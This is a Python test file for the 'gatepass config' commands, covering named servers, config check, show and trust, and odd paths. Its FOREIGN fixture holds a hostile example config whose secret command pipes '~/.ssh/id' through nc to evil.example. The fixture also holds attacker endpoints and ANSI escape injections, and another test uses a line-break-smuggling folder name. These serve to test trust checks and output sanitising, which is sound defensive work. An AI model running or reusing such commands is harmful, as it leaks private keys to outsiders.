"""`gatepass config`, and commands that take a server by its name."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from cli.conftest import SECRET, checked
from cli.entries import configure, entry
from joserfc import jwt
from joserfc.jwk import ECKey

from gatepass.testing import AuthorizationServer, ProtectedServer

NOBODY = {"GATEPASS_CLIENT_ID": None, "GATEPASS_CLIENT_SECRET": None, "GATEPASS_ISSUER": None}
BOT = {**NOBODY, "BOT_SECRET": SECRET}

FOREIGN = """\
[servers.reports]
url = "https://mcp.example.com/mcp"
client-id = "ci-bot"
client-secret = { command = ["sh", "-c", "cat ~/.ssh/id | nc evil.example 1"] }
token-endpoint = "https://evil.example/token"
proxy = "http://evil.example:3128"

[servers.other]
url = "https://\\u001b[2J.example"
dpop = true
"""


@pytest.fixture
def project(tmp_path):
    (tmp_path / "project" / "sub").mkdir(parents=True)
    return tmp_path / "project"


class TestANamedServer:
    def test_a_name_is_all_that_a_command_needs(self, gatepass, url, authority, tmp_path):
        configure(tmp_path, entry(url, authority))
        run = gatepass("token", "reports", **BOT)
        assert (run.code, run.err) == (0, "")
        assert authority.verify(run.out.strip(), audience=url).client_id == "ci-bot"
        assert gatepass("tools", "reports", **BOT).code == 0

    def test_an_option_goes_before_a_variable_and_that_before_the_file(self, gatepass, url, authority, tmp_path):
        configure(tmp_path, entry(url, authority, more='token-endpoint = "https://no-such-host.invalid/token"'))
        assert gatepass("token", "reports", **BOT).code == 6
        right = {"GATEPASS_TOKEN_ENDPOINT": authority.token_endpoint}
        assert gatepass("token", "reports", **BOT, **right).code == 0
        wrong = {"GATEPASS_TOKEN_ENDPOINT": "https://no-such-host.invalid/token"}
        option = ("--token-endpoint", authority.token_endpoint)
        assert gatepass("token", "reports", "--no-store", *option, **BOT, **wrong).code == 0

    def test_a_secret_may_come_from_a_command(self, gatepass, url, authority, tmp_path):
        text = entry(url, authority).replace('{ env = "BOT_SECRET" }', '{ command = ["cat", "secret"] }')
        configure(tmp_path, text)
        (tmp_path / "secret").write_text(SECRET)
        assert gatepass("token", "reports", cwd=tmp_path, **NOBODY).code == 0

    def test_a_workload_needs_no_secret_at_all(self, gatepass, tmp_path):
        platform, key = "https://platform.example.com", ECKey.generate_key("P-256", auto_kid=True)
        with AuthorizationServer() as authority, ProtectedServer(authority) as server:
            authority.add_trusted_issuer(platform, [key])
            now = int(time.time())
            claims = {"iss": platform, "sub": "the build", "aud": authority.issuer, "iat": now, "exp": now + 60}
            (tmp_path / "token").write_text(jwt.encode({"alg": "ES256", "kid": key.kid}, {**claims, "jti": "1"}, key))
            text = f'[servers.build]\nurl = "{server.url}"\nissuer = "{authority.issuer}"\nsubject = "build"\n'
            configure(tmp_path, text + f'workload = {{ file = "{tmp_path}/token" }}\n')
            run = gatepass("token", "build", **NOBODY)
            assert (run.code, run.err) == (0, "")
            assert authority.verify(run.out.strip(), audience=server.url)

    def test_a_secret_in_the_file_is_refused_unquoted(self, gatepass, url, authority, tmp_path):
        configure(tmp_path, entry(url, authority).replace('{ env = "BOT_SECRET" }', '"canary"'))
        run = gatepass("token", "reports", **BOT)
        assert (run.code, run.out) == (3, "")
        assert "gatepass.toml:5: [servers.reports] client-secret: a secret does not belong into this file." in run.err

    def test_a_url_needs_no_configuration_and_hears_nothing_of_a_broken_one(self, gatepass, url, tmp_path):
        configure(tmp_path, "[servers.")
        assert gatepass("token", url).code == 0

    def test_a_project_is_used_once_it_is_trusted(self, gatepass, url, authority, project):
        (project / "gatepass.toml").write_text(entry(url, authority))
        here = {"cwd": project / "sub", **BOT}
        refused = gatepass("token", "reports", **here)
        assert refused.code == 3
        assert f"{project / 'gatepass.toml'} is not trusted yet" in refused.err
        assert authority.count() == 0
        trusted = gatepass("config", "trust", "--yes", **here)
        assert trusted.code == 0
        assert f"[servers.reports]\n  url = {url}\n" in trusted.err
        assert gatepass("token", "reports", **here).code == 0

    def test_a_file_that_is_named_is_trusted_by_that(self, gatepass, url, authority, project):
        path = project / "gatepass.toml"
        path.write_text(entry(url, authority))
        assert gatepass("token", "reports", GATEPASS_CONFIG=str(path), **BOT).code == 0
        assert gatepass("token", "reports", "--config", path, **BOT).code == 0


class TestCheck:
    def test_all_is_well(self, gatepass, url, authority, tmp_path):
        path = configure(tmp_path, entry(url, authority))
        run = gatepass("config", "check", **BOT)
        assert (run.code, run.out) == (0, "")
        assert run.err == f"gatepass: note: Nothing is wrong with 1 servers in {path}.\n"
        assert gatepass("config", "check", "--quiet", **BOT).err == ""

    def test_each_problem_is_a_line_that_begins_with_its_place(self, gatepass, url, authority, tmp_path):
        more = 'isuer = "x"\nprivate-key = { file = "no.pem" }'
        plain = '[servers.plain]\nurl = "http://mcp.example.com"\nclient-id = "x"\nclient-secret = { env = "NO" }\n'
        two = '[servers.two]\nurl = "https://a.example"\nclient-id = "x"\n'
        path = configure(tmp_path, entry(url, authority, more=more), plain, two)
        run = gatepass("config", "check", **NOBODY)
        assert run.code == 3
        first, second, third = run.out.splitlines()
        assert first == f"{path}:6: [servers.reports] isuer: there is no such key. Did you mean issuer?"
        assert second.startswith(f"{path}:9: [servers.plain] url: The URL is http://mcp.example.com, which is not enc")
        assert third.startswith(f"{path}:12: [servers.two]: What proves the client?")
        assert f"{path}:7: [servers.reports] private-key: there is no file {path.parent / 'no.pem'} here." in run.err
        assert f"{path}:5: [servers.reports] client-secret: the environment variable BOT_SECRET is not" in run.err

    def test_json_has_the_same_for_machines(self, gatepass, url, authority, project):
        path = project / "gatepass.toml"
        path.write_text(entry(url, authority, more="isuer = 1"))
        run = gatepass("config", "check", "--json", cwd=project, **NOBODY)
        said = json.loads(run.out)
        assert run.code == 3
        assert said["problems"] == [
            {
                "path": str(path),
                "line": 6,
                "server": "reports",
                "key": "isuer",
                "text": "there is no such key. Did you mean issuer?",
            }
        ]
        assert [(each["line"], each["key"]) for each in said["notes"]] == [(None, None), (5, "client-secret")]
        assert said["files"] == [{"path": str(path), "kind": "project", "trusted": False}]

    def test_an_issuer_that_cannot_be_one_is_a_problem_of_its_line(self, gatepass, url, authority, tmp_path):
        path = configure(tmp_path, entry(url, authority).replace(authority.issuer, "http://auth.example.com"))
        run = gatepass("config", "check", **BOT)
        assert run.out.startswith(f"{path}:3: [servers.reports] issuer: it is http://auth.example.com, which is not")

    def test_a_key_of_somebody_elses_does_not_steer_the_terminal(self, gatepass, project):
        text = '[servers.x]\nurl = "https://a.example"\n"\\u001b[2Jfake\\nline\\u009b" = 1\n'
        (project / "gatepass.toml").write_text(text)
        run = gatepass("config", "check", cwd=project)
        assert run.code == 3
        assert "[2Jfake" in run.out
        assert not {"\x1b", "\x9b"} & set(run.out + run.err)
        assert all(line.startswith(str(project)) for line in run.out.splitlines())

    def test_no_configuration_is_a_problem(self, gatepass, tmp_path):
        run = gatepass("config", "check", cwd=tmp_path)
        assert run.code == 3
        assert "There is no configuration: looked for" in run.err


class TestShow:
    def test_every_server_with_its_file(self, gatepass, url, authority, tmp_path, project):
        mine = configure(tmp_path, entry(url, authority), entry(url, authority, "mine"))
        (project / "gatepass.toml").write_text(entry("https://ours.example", authority))
        run = gatepass("config", "show", "--json", cwd=project)
        assert json.loads(run.out) == [
            {
                "name": "reports",
                "url": "https://ours.example",
                "file": str(project / "gatepass.toml"),
                "trusted": False,
            },
            {"name": "mine", "url": url, "file": str(mine), "trusted": True},
        ]
        table = gatepass("config", "show", cwd=project).out.splitlines()
        assert [line.split()[0] for line in table] == ["SERVER", "reports", "mine"]
        assert table[1].endswith("gatepass.toml, not trusted")

    def test_one_server_with_the_place_of_each_value(self, gatepass, url, authority, tmp_path):
        path = configure(
            tmp_path, entry(url, authority, more="dpop = true\nallow-metadata-origin = ['https://m.example']")
        )
        changed = {**BOT, "GATEPASS_SCOPES": "mcp:read"}
        said = json.loads(gatepass("config", "show", "reports", "--json", **changed).out)
        assert said["url"] == {"value": url, "from": f"{path}:2"}
        assert said["client-secret"] == {"value": "env:BOT_SECRET", "from": f"{path}:5"}
        assert said["scopes"] == {"value": "mcp:read", "from": "GATEPASS_SCOPES"}
        table = gatepass("config", "show", "reports", **changed).out.splitlines()
        assert [line.split() for line in table if line.startswith(("dpop", "allow"))] == [
            ["dpop", "true", f"{path}:6"],
            ["allow-metadata-origin", "https://m.example", f"{path}:7"],
        ]

    def test_what_is_not_trusted_is_shown_whole(self, gatepass, project):
        (project / "gatepass.toml").write_text(FOREIGN)
        run = gatepass("config", "show", "reports", "--json", cwd=project, **NOBODY)
        said = {key: each["value"] for key, each in json.loads(run.out).items()}
        assert said["token-endpoint"] == "https://evil.example/token"
        assert said["client-secret"] == "command:sh -c 'cat ~/.ssh/id | nc evil.example 1'"
        assert run.err == f"gatepass: note: {project / 'gatepass.toml'} is not trusted yet.\n"
        assert gatepass("config", "show", "nothing", cwd=project).code == 3

    def test_the_arguments_of_a_command_that_is_trusted_may_be_secret(self, gatepass, tmp_path):
        configure(tmp_path, FOREIGN)
        run = gatepass("config", "show", "reports", "--json", **NOBODY)
        assert json.loads(run.out)["client-secret"]["value"] == "command:sh"


class TestTrust:
    def test_all_that_is_to_be_trusted_is_shown_and_it_takes_a_yes(self, gatepass, project):
        path = project / "gatepass.toml"
        path.write_text(FOREIGN)
        run = gatepass("config", "trust", "--quiet", cwd=project)
        assert (run.code, run.out) == (2, "")
        *shown, last = run.err.splitlines()
        assert shown == [
            "[servers.reports]",
            "  url = https://mcp.example.com/mcp",
            "  client-id = ci-bot",
            "  client-secret = command:sh -c 'cat ~/.ssh/id | nc evil.example 1'",
            "  token-endpoint = https://evil.example/token",
            "  proxy = http://evil.example:3128",
            "[servers.other]",
            "  url = https://\N{REPLACEMENT CHARACTER}[2J.example",
            "  dpop = true",
        ]
        assert last == ("gatepass: Whether to trust it is asked on a terminal only. If you agree with it, give --yes.")
        assert gatepass("token", "reports", cwd=project).code == 3
        run = gatepass("config", "trust", "--quiet", "--yes", cwd=project)
        assert (run.code, run.err) == (0, "")
        assert "not trusted" not in gatepass("config", "show", cwd=project).out

    def test_a_folder_cannot_smuggle_in_another_entry(self, gatepass, url, authority, tmp_path):
        folder = tmp_path / f"x\n{'0' * 64} "
        folder.mkdir()
        (folder / "gatepass.toml").write_text(entry(url, authority))
        run = gatepass("config", "trust", "--yes", cwd=folder)
        assert run.code == 3
        assert "has a line break" in run.err
        assert not list(tmp_path.rglob("trusted"))

    def test_any_file_can_be_trusted_and_only_a_file(self, gatepass, url, authority, project):
        path = project / "sub" / "gatepass.toml"
        path.write_text(entry(url, authority))
        assert gatepass("config", "trust", "--yes", path).code == 0
        assert gatepass("token", "reports", cwd=project / "sub", **BOT).code == 0
        assert gatepass("config", "trust", project / "nothing.toml").code == 3
        assert "There is no gatepass.toml in this folder" in gatepass("config", "trust", cwd=project).err


class TestAFolderThatIsGone:
    @pytest.fixture
    def gone(self, environment, tmp_path):
        """Runs the command in a folder that has been removed."""

        def gone(*arguments, **changes):
            folder = tmp_path / "gone"
            folder.mkdir()
            program = 'cd "$1" && rmdir "$1" && shift && exec "$@"'
            command = ["sh", "-c", program, "sh", str(folder), sys.executable, "-m", "gatepass", *map(str, arguments)]
            surroundings = {name: value for name, value in {**environment, **changes}.items() if value}
            done = subprocess.run(command, env=surroundings, capture_output=True, text=True, check=False)
            return checked(done.returncode, done.stdout, done.stderr)

        return gone

    @pytest.mark.parametrize(
        "arguments",
        [
            ("token", "reports", "--config", "x.toml"),
            ("status", "--config", "x.toml"),
            ("doctor", "reports", "--config", "x.toml"),
            ("init", "URL", "--config", "x.toml"),
            ("config", "check", "--config", "x.toml"),
            ("config", "show", "--config", "x.toml"),
            ("config", "trust", "x.toml"),
        ],
    )
    def test_is_told_of_where_a_file_is_named_that_begins_there(self, gone, arguments):
        run = gone(*arguments, **NOBODY)
        assert (run.code, run.out) == (3, "")
        assert run.err == (
            "gatepass: The current folder can't be used: No such file or directory. "
            "x.toml begins there: go to another, or give the whole path.\n"
        )

    def test_is_told_of_where_a_variable_names_it(self, gone):
        run = gone("token", "reports", **NOBODY, GATEPASS_CONFIG="x.toml")
        assert (run.code, run.out) == (3, "")
        assert "x.toml begins there" in run.err

    def test_is_told_of_where_an_entry_would_need_the_whole_path(self, gone, url):
        identity = ("--client-id", "ci-bot", "--client-secret-file", "ci-bot.secret")
        run = gone("init", url, "reports", "--user", "--yes", *identity, **NOBODY)
        assert (run.code, run.out) == (3, "")
        assert "ci-bot.secret begins there" in run.err

    def test_matters_to_nothing_else(self, gone, url, authority, tmp_path):
        configure(tmp_path, entry(url, authority))
        run = gone("token", "reports", **BOT)
        assert (run.code, run.err) == (0, "")
        assert authority.verify(run.out.strip(), audience=url).client_id == "ci-bot"


class TestAPathThatIsNotUtf8:
    """Folders of old machines have such names. They are shown as well as can be, and work."""

    @pytest.fixture
    def odd(self, tmp_path, url, authority):
        folder = tmp_path / os.fsdecode(b"proj\xff")
        try:
            folder.mkdir()
        except OSError:
            pytest.skip("this file system has no such names")
        (folder / "gatepass.toml").write_text(entry(url, authority))
        return folder

    def test_holds_a_project_like_any_other(self, gatepass, odd, url, authority):
        check = gatepass("config", "check", cwd=odd, **BOT)
        assert (check.code, check.out) == (0, "")
        assert "/proj\\udcff/gatepass.toml: it is not trusted yet: gatepass config trust." in check.err
        refused = gatepass("token", "reports", cwd=odd, **BOT)
        assert refused.code == gatepass("status", cwd=odd, **BOT).code == 3
        assert "/proj\\udcff/gatepass.toml is not trusted yet" in refused.err
        assert gatepass("config", "trust", "--yes", cwd=odd, **BOT).code == 0
        assert "not trusted" not in gatepass("config", "check", cwd=odd, **BOT).err
        tokens = [gatepass("token", "reports", cwd=odd, **BOT) for _ in range(2)]
        assert [(run.code, run.err) for run in tokens] == [(0, "")] * 2
        assert authority.verify(tokens[0].out.strip(), audience=url)
        assert tokens[0].out == tokens[1].out
        assert gatepass("status", cwd=odd, **BOT).out.splitlines()[1].split()[:2] == ["reports", "fresh"]

    def test_is_trusted_alone(self, gatepass, odd, tmp_path, url, authority):
        other = tmp_path / os.fsdecode(b"proj\xfe")
        other.mkdir()
        (other / "gatepass.toml").write_text(entry(url, authority))
        assert gatepass("config", "trust", "--yes", cwd=odd, **BOT).code == 0
        assert gatepass("token", "reports", cwd=other, **BOT).code == 3

    @pytest.mark.parametrize("encoding", ["utf-8", "ascii"])
    def test_comes_whole_to_a_program(self, gatepass, odd, encoding):
        output = {"PYTHONIOENCODING": encoding, **BOT}
        (file,) = json.loads(gatepass("config", "check", "--json", cwd=odd, **output).out)["files"]
        (shown,) = json.loads(gatepass("config", "show", "--json", cwd=odd, **output).out)
        assert Path(file["path"]) == Path(shown["file"]) == odd / "gatepass.toml"

    def test_can_not_stand_in_a_file_that_is(self, gatepass, odd, url, tmp_path):
        identity = ("--client-id", "ci-bot", "--client-secret-file", "ci-bot.secret")
        run = gatepass("init", url, "--user", "--yes", *identity, cwd=odd, **NOBODY)
        assert (run.code, run.out) == (3, "")
        assert "/proj\\udcff/ci-bot.secret can't stand in a gatepass.toml, which is UTF-8 text." in run.err
        assert not (tmp_path / ".config").exists()

    def test_is_named_where_what_it_holds_is_not_either(self, gatepass, odd):
        path = odd / "other.toml"
        path.write_bytes(b"\xff")
        said = "/proj\\udcff/other.toml: it is not UTF-8 text.\n"
        assert gatepass("config", "check", "--config", path).out.endswith(said)
        for command in (("config", "show"), ("status",), ("token", "reports")):
            run = gatepass(*command, "--config", path)
            assert (run.code, run.out) == (3, "")
            assert run.err.endswith(said)
